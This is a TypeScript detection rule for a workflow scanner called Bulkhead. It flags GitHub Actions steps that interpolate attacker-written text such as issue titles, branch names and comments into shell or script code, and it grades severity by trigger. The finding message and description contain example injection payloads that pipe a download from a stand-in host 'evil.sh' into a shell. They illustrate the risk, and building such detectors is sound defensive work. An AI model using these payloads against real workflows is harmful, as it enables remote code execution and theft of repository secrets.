import { defineRule, hit, type Hit, type Related, type Severity } from '../../core/index.js';
import type { Expr } from '../../formats/workflow/expressions.js';
import { contextPath } from '../../formats/workflow/expressions.js';
import { PRIVILEGED_EVENTS } from '../../formats/workflow/triggers.js';
import { envWriteOwning } from '../../formats/workflow/env-files.js';
import type {
  WfExpression,
  WfJob,
  WfMap,
  WfRun,
  WfScalar,
  WfStep,
  WfTrigger,
  WorkflowModel,
} from '../../formats/workflow/model.js';

/**
 * Contexts whose text an outsider chooses (research §5: the union of zizmor's "arbitrary",
 * actionlint's, Scorecard's and CodeQL's lists), with the events that fill them. `*` in a pattern
 * matches one segment (an array index or filter). Numbers, SHAs, ids, logins and booleans are not
 * here: they cannot carry shell syntax.
 */
const PR_EVENTS = [
  'pull_request',
  'pull_request_target',
  'pull_request_review',
  'pull_request_review_comment',
];
export const UNTRUSTED: { pattern: string[]; events: string[] }[] = [
  ...['title', 'body'].map((f) => ({
    pattern: ['github', 'event', 'issue', f],
    events: ['issues', 'issue_comment'],
  })),
  ...[
    'title',
    'body',
    'head.ref',
    'head.label',
    'head.repo.default_branch',
    'head.repo.description',
    'head.repo.homepage',
  ].map((f) => ({ pattern: ['github', 'event', 'pull_request', ...f.split('.')], events: PR_EVENTS })),
  { pattern: ['github', 'head_ref'], events: PR_EVENTS },
  {
    pattern: ['github', 'event', 'comment', 'body'],
    events: ['issue_comment', 'pull_request_review_comment', 'commit_comment', 'discussion_comment'],
  },
  { pattern: ['github', 'event', 'review', 'body'], events: ['pull_request_review'] },
  { pattern: ['github', 'event', 'review_comment', 'body'], events: ['pull_request_review_comment'] },
  ...['title', 'body'].map((f) => ({
    pattern: ['github', 'event', 'discussion', f],
    events: ['discussion', 'discussion_comment'],
  })),
  ...['page_name', 'title'].map((f) => ({
    pattern: ['github', 'event', 'pages', '*', f],
    events: ['gollum'],
  })),
  ...['message', 'author.name', 'author.email', 'committer.name', 'committer.email'].flatMap((f) => [
    { pattern: ['github', 'event', 'commits', '*', ...f.split('.')], events: ['push'] },
    { pattern: ['github', 'event', 'head_commit', ...f.split('.')], events: ['push'] },
  ]),
  ...[
    'head_branch',
    'display_title',
    'head_commit.message',
    'head_commit.author.name',
    'head_commit.author.email',
    'head_commit.committer.name',
    'head_commit.committer.email',
    'head_repository.description',
    'pull_requests.*.head.ref',
  ].map((f) => ({ pattern: ['github', 'event', 'workflow_run', ...f.split('.')], events: ['workflow_run'] })),
  // repository_dispatch: any JSON the API caller sends (`**`: any field at any depth).
  { pattern: ['github', 'event', 'client_payload', '**'], events: ['repository_dispatch'] },
  ...['name', 'body', 'tag_name'].map((f) => ({
    pattern: ['github', 'event', 'release', f],
    events: ['release'],
  })),
];

/** Last segments of the untrusted fields that are git ref names (git refuses control characters in them). */
const SINGLE_LINE = new Set(['head_ref', 'ref', 'label', 'head_branch', 'default_branch', 'tag_name']);

/**
 * Events an outsider (no write access) can cause while the job holds a writable token and the
 * repository's secrets: injection there is critical (CodeQL's "privileged" events).
 */
export const PRIVILEGED: ReadonlySet<string> = PRIVILEGED_EVENTS;
/** Events that run a fork's change with a read-only token and no secrets: medium. */
export const UNPRIVILEGED = new Set(['pull_request', 'pull_request_review', 'pull_request_review_comment']);

/** `with:` inputs of actions that run their value as code (zizmor's and CodeQL's sink models, the sure ones). */
const CODE_INPUTS: Record<string, { input: string; lang: 'js' | 'shell' | 'pwsh' }> = {
  'actions/github-script': { input: 'script', lang: 'js' },
  'appleboy/ssh-action': { input: 'script', lang: 'shell' },
  'azure/cli': { input: 'inlinescript', lang: 'shell' },
  'azure/powershell': { input: 'inlinescript', lang: 'pwsh' },
};

/** Functions whose result is a boolean or a hash: nothing of the argument's text reaches the script. */
const CLEAN_FUNCTIONS = new Set([
  'contains',
  'startswith',
  'endswith',
  'hashfiles',
  'success',
  'always',
  'failure',
  'cancelled',
]);

export const RANK: Severity[] = ['info', 'low', 'medium', 'high', 'critical'];

/** A context read whose text reaches the output of the expression. */
export interface Flow {
  path: string[];
  /** Inside `toJSON()`: a whole object is serialised, so a prefix of an untrusted path counts. */
  serialized: boolean;
}

/**
 * The context reads whose value can appear in what the expression evaluates to (zizmor's
 * dataflow): comparisons, `!` and the boolean functions yield `true`/`false`; `a && b` yields `b`
 * or a falsy `a` (an empty string, `false`, `0`, `null`: nothing to inject), so only `b` flows;
 * `a || b`, `format`, `join`, `toJSON`, `fromJSON` and unknown functions pass their operands on.
 */
export function flows(e: Expr, serialized: boolean, out: Flow[]): void {
  switch (e.kind) {
    case 'literal':
      return;
    case 'name':
    case 'property':
    case 'index':
    case 'filter': {
      const path = contextPath(e);
      if (path) out.push({ path, serialized });
      else {
        // `fromJSON(x).field`: the field of whatever x holds.
        let cur: Expr = e;
        while (cur.kind === 'property' || cur.kind === 'index' || cur.kind === 'filter') cur = cur.object;
        flows(cur, serialized, out);
      }
      return;
    }
    case 'call': {
      const name = e.name.toLowerCase();
      if (CLEAN_FUNCTIONS.has(name)) return;
      for (const a of e.args) flows(a, serialized || name === 'tojson', out);
      return;
    }
    case 'not':
      return;
    case 'binary':
      if (e.op === '&&') flows(e.right, serialized, out);
      else if (e.op === '||') {
        flows(e.left, serialized, out);
        flows(e.right, serialized, out);
      }
      return;
  }
}

/** Does `path` (with `*`/`?` segments from filters and dynamic indexes) read `pattern`? */
export function matches(path: string[], pattern: string[]): boolean {
  if (pattern[pattern.length - 1] === '**') {
    const prefix = pattern.slice(0, -1);
    return path.length > prefix.length && matches(path.slice(0, prefix.length), prefix);
  }
  if (path.length !== pattern.length) return false;
  return path.every((p, i) => p === '*' || p === '?' || pattern[i] === '*' || p === pattern[i]);
}
/** Is `path` a whole object that holds `pattern` (`github.event` holds `github.event.issue.title`)? */
function holds(path: string[], pattern: string[]): boolean {
  const open = pattern[pattern.length - 1] === '**';
  const fixed = open ? pattern.slice(0, -1) : pattern;
  if (open ? path.length > fixed.length : path.length >= fixed.length) return false;
  return path.every((p, i) => p === '*' || p === '?' || fixed[i] === '*' || p === fixed[i]);
}

export interface Source {
  /** What the message calls the value. */
  what: string;
  /**
   * Where the text comes from: an event field an outsider writes, a string input (the caller's
   * or dispatcher's text), or a matrix computed by an expression.
   */
  kind: 'event' | 'input' | 'matrix';
  /** A git ref name (branch, tag): no newline or control character can be in it. */
  singleLine?: true;
  severity: Severity;
  /** Why this severity. */
  why: string;
  related: Related[];
}

export interface Scope {
  model: WorkflowModel;
  job?: WfJob;
  step: WfStep;
}

export function triggerGrade(
  model: WorkflowModel,
  events: readonly string[],
): { severity: Severity; why: string; related: Related[] } {
  if (model.type === 'action')
    return {
      severity: 'high',
      why: 'an action runs under whatever event its caller has, pull_request_target included',
      related: [],
    };
  const triggers = model.triggers;
  const filling = triggers.filter((t) => events.includes(t.event));
  const priv = filling.filter((t) => PRIVILEGED.has(t.event));
  // A reusable workflow sees its caller's event: at least high, critical if its own triggers say so.
  if (!priv.length && triggers.some((t) => t.event === 'workflow_call'))
    return {
      severity: 'high',
      why: 'a reusable workflow sees the event of the workflow that calls it',
      related: triggers.filter((t) => t.event === 'workflow_call').map(rel),
    };
  if (priv.length)
    return {
      severity: 'critical',
      why: `under ${names(priv)} an outsider writes that text and the job runs with the repository's token (writable unless restricted) and secrets`,
      related: priv.map(rel),
    };
  const other = filling.filter((t) => !UNPRIVILEGED.has(t.event));
  if (other.length)
    return {
      severity: 'high',
      why: `under ${names(other)} the text comes from a contributor's commit or branch and the job has the repository's token and secrets`,
      related: other.map(rel),
    };
  if (filling.length)
    return {
      severity: 'medium',
      why: `under ${names(filling)} a fork's run gets a read-only token and no secrets, but it can still poison caches and artifacts, or a self-hosted runner`,
      related: filling.map(rel),
    };
  return {
    severity: 'low',
    why: `none of this workflow's triggers (${names(triggers) || 'none'}) fills it today, so it is empty until another trigger is added`,
    related: [],
  };
}
const rel = (t: WfTrigger): Related => ({ span: t.span, label: `triggered by ${t.event}` });
const names = (ts: WfTrigger[]): string => [...new Set(ts.map((t) => `\`${t.event}\``))].join(', ');

/** `inputs.x` / `github.event.inputs.x`: graded by where it is declared and its type. */
function inputSource(model: WorkflowModel, name: string): Source | undefined {
  if (model.type === 'action') {
    return {
      what: `the action input '${name}'`,
      kind: 'input',
      severity: 'medium',
      why: "an action input is whatever the calling workflow passes in `with:`, possibly a pull request's title",
      related: [],
    };
  }
  let best: Source | undefined;
  for (const t of model.triggers) {
    if (t.event !== 'workflow_call' && t.event !== 'workflow_dispatch') continue;
    const inputs = t.config?.type === 'map' ? t.config.get('inputs')?.value : undefined;
    const decl =
      inputs?.type === 'map' ? inputs.entries.find((e) => e.key.toLowerCase() === name) : undefined;
    if (!decl) continue;
    const typeNode = decl.value.type === 'map' ? decl.value.get('type')?.value : undefined;
    const type = typeNode?.type === 'scalar' ? typeNode.value.toLowerCase() : 'string';
    if (type !== 'string') continue; // boolean, number, choice, environment: GitHub checks the value
    const s: Source =
      t.event === 'workflow_call'
        ? {
            what: `the string input '${decl.key}'`,
            kind: 'input',
            severity: 'medium',
            why: "a reusable workflow's string input is whatever its caller passes, possibly a pull request's title",
            related: [{ span: decl.keySpan, label: 'declared here as a string' }],
          }
        : {
            what: `the string input '${decl.key}'`,
            kind: 'input',
            severity: 'low',
            why: 'only people with write access can dispatch the workflow, but the text is still run as code',
            related: [{ span: decl.keySpan, label: 'declared here as a string' }],
          };
    best = best ? (RANK.indexOf(s.severity) > RANK.indexOf(best.severity) ? s : best) : s;
  }
  return best;
}

/**
 * `matrix.x` whose values come from an expression (`fromJSON(needs.setup.outputs.matrix)`): low,
 * since what the other job computed is unknown; static values are the workflow's own text.
 */
function matrixSource(job: WfJob, name: string): Source | undefined {
  const m = job.matrix;
  if (!m) return undefined;
  let key = name;
  if (m.node.type === 'map') {
    const keys = m.node.entries.flatMap((e) =>
      e.key === 'include' && e.value.type === 'seq'
        ? e.value.items.flatMap((i) => (i.type === 'map' ? i.entries.map((x) => x.key) : []))
        : [e.key],
    );
    key = keys.find((k) => k.toLowerCase() === name) ?? name;
  }
  if (!m.dynamic && !m.values(key).unknown) return undefined;
  return {
    what: `'matrix.${key}'`,
    kind: 'matrix',
    severity: 'low',
    why: 'the matrix value comes from an expression, so its text is unknown here',
    related: [{ span: m.node.span, label: 'the matrix is computed here' }],
  };
}

/** The nearest `env:` entry that sets `name` (step, then job, then workflow). */
function envDefinition(scope: Scope, name: string): { key: string; value?: WfScalar } | undefined {
  for (const m of [scope.step.env, scope.job?.env, scope.model.env] as (WfMap | undefined)[]) {
    const e = m?.entries.find((x) => x.key.toLowerCase() === name);
    if (e) return { key: e.key, ...(e.value.type === 'scalar' ? { value: e.value } : {}) };
  }
  return undefined;
}

/** The untrusted source a flowing read stands for, if any. */
export function sourceOf(scope: Scope, f: Flow, depth = 0): Source | undefined {
  const p = f.path;
  if (p[0] === 'github') {
    if (p[1] === 'event' && p[2] === 'inputs' && p.length === 4) return inputSource(scope.model, p[3]!);
    // A filter or a serialised object can hold several fields: grade by the worst of them.
    let best: Source | undefined;
    for (const u of UNTRUSTED) {
      const exact = matches(p, u.pattern);
      if (!exact && !(f.serialized && holds(p, u.pattern))) continue;
      const g = triggerGrade(scope.model, u.events);
      if (best && RANK.indexOf(g.severity) <= RANK.indexOf(best.severity)) continue;
      best = {
        kind: 'event',
        ...(exact && SINGLE_LINE.has(u.pattern[u.pattern.length - 1]!) ? { singleLine: true } : {}),
        what: exact
          ? `'${p.join('.')}'`
          : `the whole object '${p.join('.')}' serialised by toJSON (it holds ${u.pattern.join('.')})`,
        ...g,
      };
    }
    return best;
  }
  if (p[0] === 'inputs' && p.length === 2) return inputSource(scope.model, p[1]!);
  if (p[0] === 'matrix' && p.length >= 2 && scope.job) return matrixSource(scope.job, p[1]!);
  if (p[0] === 'env' && p.length === 2 && depth === 0) {
    // `${{ env.X }}` substitutes X's value into the script just as the expression it was set
    // from would: the env indirection is only a fix when the script reads "$X".
    const def = envDefinition(scope, p[1]!);
    let best: Source | undefined;
    for (const x of def?.value?.expressions ?? []) {
      if (!x.ast) continue;
      const inner: Flow[] = [];
      flows(x.ast, false, inner);
      for (const g of inner) {
        const s = sourceOf(scope, g, depth + 1);
        if (s && (!best || RANK.indexOf(s.severity) > RANK.indexOf(best.severity)))
          best = {
            ...s,
            what: `'env.${def!.key}', which is set from ${s.what}`,
            related: [{ span: x.span, label: `env.${def!.key} is set here` }, ...s.related],
          };
      }
    }
    return best;
  }
  return undefined;
}

/** `ISSUE_TITLE` for `github.event.issue.title`. */
export function envName(path: string[]): string {
  const parts = path.filter((s) => s !== '*' && s !== '?' && s !== 'github' && s !== 'event');
  const tail = parts.slice(-2);
  const name = (tail.length ? tail : ['value'])
    .join('_')
    .toUpperCase()
    .replace(/[^A-Z0-9_]/g, '_');
  return /^[0-9]/.test(name) ? `V_${name}` : name;
}

/** The worst untrusted source whose text reaches the value of `ast`, with the read it comes from. */
export function bestSource(
  scope: Scope,
  ast: Expr,
  kind?: Source['kind'],
): { src: Source; flow: Flow } | undefined {
  const fl: Flow[] = [];
  flows(ast, false, fl);
  let best: { src: Source; flow: Flow } | undefined;
  for (const f of fl) {
    const s = sourceOf(scope, f);
    if (
      s &&
      (!kind || s.kind === kind) &&
      (!best || RANK.indexOf(s.severity) > RANK.indexOf(best.src.severity))
    )
      best = { src: s, flow: f };
  }
  return best;
}

function check(
  scope: Scope,
  x: WfExpression,
  lang: 'shell' | 'pwsh' | 'cmd' | 'js',
  sink: string,
  run?: WfRun,
): Hit | undefined {
  if (!x.ast)
    // Fail closed: what it reads is unknown, so an injection cannot be ruled out. GitHub itself
    // rejects most of these; none of the corpus's 2,660 expressions fails to parse.
    return hit(
      x.span,
      `${sink} holds an expression Bulkhead could not parse (${x.error ?? 'unknown error'}), so whether it expands attacker-written text into the script is unknown.`,
      {
        severity: 'medium',
        evidence: x.source.length > 200 ? `${x.source.slice(0, 200)}…` : `\${{${x.source}}}`,
        fix: "Fix the expression; if it reads event text, pass it through the step's `env:` and read the variable in the script.",
        scopeLine: scope.step.line,
      },
    );
  const best = bestSource(scope, x.ast);
  if (!best) return undefined;
  // Event text written to $GITHUB_ENV/$GITHUB_PATH: workflow/github-env-injection owns it (one
  // finding for one cause; its fix covers both the paste and the write).
  if (run) {
    const ev = bestSource(scope, x.ast, 'event');
    if (ev && envWriteOwning(run, x.span, x.start, ev.src.singleLine === true)) return undefined;
  }
  const v = envName(best.flow.path);
  const use =
    lang === 'pwsh'
      ? `$env:${v}`
      : lang === 'cmd'
        ? `%${v}%`
        : lang === 'js'
          ? `process.env.${v}`
          : `"$${v}"`;
  const expr = x.source.trim().replace(/\s+/g, ' ');
  return hit(
    x.span,
    `${sink} interpolates ${best.src.what} into code: the runner pastes the text in before the script runs, so a value such as \`"; curl evil.sh | sh #\` runs as a command (${best.src.severity}: ${best.src.why}).`,
    {
      severity: best.src.severity,
      evidence: x.source.length > 200 ? `${x.source.slice(0, 200)}…` : `\${{${x.source}}}`,
      fix: `Pass the value through an environment variable and quote it: add \`env: { ${v}: \${{ ${expr.length > 120 ? '…' : expr} }} }\` to the step and use \`${use}\` in place of the expression.`,
      related: best.src.related,
      scopeLine: scope.step.line,
    },
  );
}

function stepHits(scope: Scope, out: Hit[]): void {
  const { step } = scope;
  if (step.run) {
    const sh = step.run.shell.name;
    const lang = sh === 'pwsh' || sh === 'powershell' ? 'pwsh' : sh === 'cmd' ? 'cmd' : 'shell';
    for (const x of step.run.node.expressions) {
      const h = check(scope, x, lang, '`run:`', step.run);
      if (h) out.push(h);
    }
  }
  const u = step.uses;
  if (u?.kind === 'repository' && step.with) {
    const sink = CODE_INPUTS[`${u.owner}/${u.repo}`];
    const entry = sink && step.with.entries.find((e) => e.key.toLowerCase() === sink.input);
    if (sink && entry?.value.type === 'scalar') {
      for (const x of entry.value.expressions) {
        const h = check(scope, x, sink.lang, `\`${u.owner}/${u.repo}\`'s \`${entry.key}:\``);
        if (h) out.push(h);
      }
    }
  }
}

export const rule = defineRule({
  id: 'workflow/template-injection',
  kind: 'workflow',
  appliesTo: 'workflow',
  severity: 'high',
  title: 'Attacker-controlled text expanded into a script',
  description:
    "GitHub substitutes `${{ }}` expressions into a `run:` script (or `actions/github-script`'s `script:`) before the shell reads it, so an issue title, pull request body, comment or branch name such as `a\";curl evil|sh;#` becomes code that runs with the job's token and secrets; the ultralytics compromise (December 2024) came through a branch name under `pull_request_target`. The rule parses each expression (index syntax `github['event']`, filters, functions, multi-line) and follows what reaches its result: comparisons, `!`, `contains`/`startsWith`/`endsWith` yield booleans and are clean, `a && b` yields only `b`, while `||`, `format`, `join`, `toJSON` and `fromJSON` pass the text on, and `toJSON(github.event)` serialises every field. Sources are the attacker-written fields (issue, pull request, comment, review, discussion and release texts, branch names, commit messages and authors, `workflow_run` head branch and title, wiki page names); `github.event.client_payload.*` of `repository_dispatch` is high (any JSON the API caller sends). Numbers, SHAs, ids, logins, `secrets.*`, `steps.*.outputs`, `needs.*`, static matrices and environment variables set from static text are not reported; a matrix value computed by an expression is low. Severity follows the trigger, as CodeQL models privilege: critical when an event that fills the field lets an outsider trigger a job with a writable token and secrets (`pull_request_target`, `issues`, `issue_comment`, `workflow_run`, `discussion*`, `gollum`); high under other such events (a `push` commit message, a release) and in reusable workflows and actions, whose event is the caller's; medium when only `pull_request`-like events (read-only token, no secrets for forks) fill it; low when no trigger of the workflow fills it. String `inputs.*` are medium for `workflow_call` and action inputs, low for `workflow_dispatch` (dispatching needs write access); typed inputs are not reported. `${{ env.X }}` is reported when X is set from such a source: substituting the variable with `${{ }}` undoes the indirection. `if:`, `env:` and other `with:` inputs are not code and are not reported. An expression that does not parse is reported at medium (fail closed: what it reads is unknown). One finding per expression, at its exact span inside the block scalar (literal, folded, multi-line), with the triggers, input declarations or `env:` entries that grade it as related places: each expression is replaced by its own `$VAR`, so each is one edit; a step reused through a YAML alias is reported once, at the anchor.",
  fix: 'Move the value into the step\'s `env:` and read the variable in the script, quoted: `env: { TITLE: ${{ github.event.issue.title }} }` and `echo "$TITLE"` (`$env:TITLE` in PowerShell, `process.env.TITLE` in github-script).',
  examples: {
    bad: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "${{ github.event.issue.title }}"',
    good: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}',
    language: 'yaml',
    path: '.github/workflows/triage.yml',
  },
  references: [
    'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
    'https://securitylab.github.com/resources/github-actions-untrusted-input/',
  ],
  check(model) {
    const hits: Hit[] = [];
    for (const job of model.jobs) for (const step of job.steps) stepHits({ model, job, step }, hits);
    for (const step of model.runs?.steps ?? []) stepHits({ model, step }, hits);
    // A step reused through a YAML alias is the anchored node itself: report it once, there.
    const seen = new Set<string>();
    return hits.filter((h) => {
      const k = `${h.span.line}:${h.span.column}:${h.span.endLine}:${h.span.endColumn}`;
      if (seen.has(k)) return false;
      seen.add(k);
      return true;
    });
  },
});
